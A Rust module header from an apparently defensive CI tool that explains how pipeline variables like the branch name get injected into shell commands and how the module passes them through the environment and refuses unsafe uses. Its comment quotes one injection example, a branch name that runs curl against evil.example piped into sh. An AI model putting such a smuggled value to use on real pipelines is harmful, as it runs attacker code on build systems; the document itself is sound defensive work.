//! Variables in shell commands: a value must never become a part of the program.
//!
//! CodePipeline puts the text of `#{Source.BranchName}` into a command before the shell reads it, so a branch
//! called `` x";curl$IFS"evil.example"| sh;" `` runs. Here the value travels in the environment and the
//! command gets `"${PIPEWRIGHT_VAR_Source_BranchName}"`: what a shell expands, it does not read again as a
//! program. Where a value would still be read as one (`eval`, `sh -c`, arithmetic, `sed` scripts, the name of
//! the command) the command is refused when the pipeline is created.
//!
//! Programs may treat an argument as a program in ways that no shell grammar tells (`make X=…`, `git -c …`);
//! for those this is no protection, only for the shell itself and the interpreters named in `judge`.

mod judge;
mod rewrite;
mod scan;

pub use rewrite::{Binding, PREFIX, Refusal, RewrittenCommand, environment_name, rewrite};

#[cfg(test)]
mod tests;
